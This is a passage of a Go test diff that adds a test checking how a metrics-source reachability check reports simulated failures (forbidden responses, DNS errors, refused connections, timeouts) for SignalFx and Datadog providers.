+			t.Errorf("%T: %+v, want deviation %v", args, r, want)
+		}
+	}
+}
+
+// TestCheckReached_HostedSource expects sources without an address of the cluster's to be checked as far as any source can be.
+func TestCheckReached_HostedSource(t *testing.T) {
+	for _, kind := range []config.MetricProviderType{config.SignalFx, config.Datadog} {
+		for _, err := range []error{&httpclient.StatusError{Code: http.StatusForbidden}, &net.DNSError{Err: "no such host"}, syscall.ECONNREFUSED, context.DeadlineExceeded} {
+			s := examinedAt("")
+			s.Spec.MetricProvider.Type, s.Label, s.Reader, s.Err = kind, string(kind), nil, err
+			s.checkReached()
+			last := s.report.Checks[len(s.report.Checks)-1]
+			if last.Status == OK || len(last.Advice) == 0 || strings.Contains(fmt.Sprint(last), "metrics-server") {
+				t.Errorf("%s, %v: %+v", kind, err, last)
+			}
+			s.examine(t.Context())
+			s.checkSeries()
+		}
+	}
+}
